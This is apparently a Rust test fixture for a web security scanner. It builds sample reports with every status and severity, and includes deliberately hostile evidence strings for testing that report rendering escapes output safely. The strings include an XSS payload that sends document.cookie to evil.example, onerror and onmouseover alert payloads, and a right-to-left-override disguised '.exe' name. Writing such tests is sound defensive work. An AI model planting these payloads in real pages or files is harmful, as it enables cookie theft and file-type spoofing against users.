//! Reports to render and validate: every status and severity, hostile evidence, with and
//! without a header grade.

use rampart_scan::report::{
    CheckResult, Evidence, Finding, GradeTest, HeaderGrade, Report, Severity, Status,
};

/// The scanned target of every fixture.
pub(crate) const TARGET: &str = "http://127.0.0.1:8080/";

/// A request line with markup, quotes, an ampersand and an ANSI escape.
pub(crate) const HOSTILE_REQUEST: &str = "GET /search?q=<script>alert(1)</script>&x=\"'` (Origin: https://evil.example; X-Probe: \u{1b}[31mred)";

/// A response excerpt that tries to close the page's markup and run script, with control
/// characters, a NUL and a right-to-left override.
pub(crate) const HOSTILE_RESPONSE: &str = "500 </pre></td><script>fetch('http://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)> \"q\" 'a' &amp; & \u{0}\u{7}\u{8}\r\nsecond line \u{202e}gpj.exe";

/// A finding title from the server's own text (a reflected header value, say).
pub(crate) const HOSTILE_TITLE: &str = "Reflected origin <b onmouseover=alert(1)>x</b> & \"more\"";

fn finding(title: &str, request: &str, response: &str, remediation: &str) -> Finding {
    Finding {
        title: title.to_owned(),
        evidence: Evidence {
            request: request.to_owned(),
            response: response.to_owned(),
        },
        remediation: remediation.to_owned(),
    }
}

fn check(
    id: &'static str,
    row: u8,
    title: &'static str,
    status: Status,
    severity: Severity,
    findings: Vec<Finding>,
) -> CheckResult {
    CheckResult {
        id,
        row,
        title,
        status,
        severity,
        findings,
        note: None,
    }
}

/// A scan with every status and severity: fails at each severity, a warning, a pass, a check
/// that did not apply, rows no check covers, and hostile evidence.
pub(crate) fn report(with_grade: bool) -> Report {
    let mut not_applicable = check(
        "limits.body",
        15,
        "Oversized bodies are refused (413)",
        Status::NotApplicable,
        Severity::Medium,
        Vec::new(),
    );
    not_applicable.note = Some("runs only with --intrusive <not run> & skipped".into());
    let checks = vec![
        check(
            "tokens.forgery",
            1,
            "Forged and altered tokens are refused",
            Status::Fail,
            Severity::Critical,
            vec![finding(
                "A token with alg none was accepted",
                "GET /me (Authorization: [REDACTED])",
                "200 {\"id\":1}",
                "Verify tokens with an explicit algorithm allowlist",
            )],
        ),
        check(
            "cors.origins",
            8,
            "CORS allows only listed origins, never with reflection or * + credentials",
            Status::Fail,
            Severity::High,
            vec![
                finding(
                    HOSTILE_TITLE,
                    HOSTILE_REQUEST,
                    HOSTILE_RESPONSE,
                    "Allow exact origins only; never reflect <Origin> & never send * with credentials",
                ),
                finding(
                    "Credentials allowed for a foreign origin",
                    "OPTIONS / (Origin: https://evil.example)",
                    "204 access-control-allow-credentials: true",
                    "Allow exact origins only; never reflect <Origin> & never send * with credentials",
                ),
            ],
        ),
        check(
            "errors.verbose",
            10,
            "Errors are 4xx envelopes without internals",
            Status::Fail,
            Severity::Medium,
            vec![finding(
                "A stack trace in a 500",
                "POST /items (Content-Type: application/json)",
                "500 at db::query (src/db.rs:42)",
                "Answer 5xx with a generic envelope; log the cause",
            )],
        ),
        check(
            "exposure.files",
            11,
            "No configuration or repository files are served",
            Status::Fail,
            Severity::Low,
            vec![finding(
                "/.git/HEAD is served",
                "GET /.git/HEAD",
                "200 ref: refs/heads/main",
                "Serve only the API's routes",
            )],
        ),
        // A failing check without findings must still show up as a result.
        check(
            "admin.routes",
            19,
            "Admin routes refuse anonymous callers and ordinary users",
            Status::Fail,
            Severity::Critical,
            Vec::new(),
        ),
        check(
            "headers.banners",
            9,
            "No X-Powered-By or version banners",
            Status::Warn,
            Severity::Low,
            vec![finding(
                "Server banner names a version",
                "GET /",
                "200 server: nginx/1.25.3",
                "Drop version banners",
            )],
        ),
        check(
            "transport.hsts",
            13,
            "HSTS with a long max-age on https",
            Status::Pass,
            Severity::High,
            Vec::new(),
        ),
        not_applicable,
    ];
    let mut report = Report::new(TARGET.into(), checks);
    if with_grade {
        report.header_grade = Some(HeaderGrade {
            path: "/".into(),
            score: 70,
            grade: "B".into(),
            tests: vec![
                GradeTest {
                    name: "content-security-policy".into(),
                    pass: false,
                    result: "csp-not-implemented".into(),
                    score_modifier: -25,
                },
                GradeTest {
                    name: "x-content-type-options".into(),
                    pass: true,
                    result: "x-content-type-options-nosniff".into(),
                    score_modifier: 0,
                },
                GradeTest {
                    name: "referrer-policy".into(),
                    pass: false,
                    result: "referrer-policy-unsafe".into(),
                    score_modifier: -5,
                },
            ],
        });
    }
    report
}

/// Every status and severity word that `fixtures::report` must contain in JSON.
pub(crate) const STATUSES: [&str; 5] = ["not_checked", "not_applicable", "pass", "warn", "fail"];
/// See [`STATUSES`].
pub(crate) const SEVERITIES: [&str; 4] = ["low", "medium", "high", "critical"];
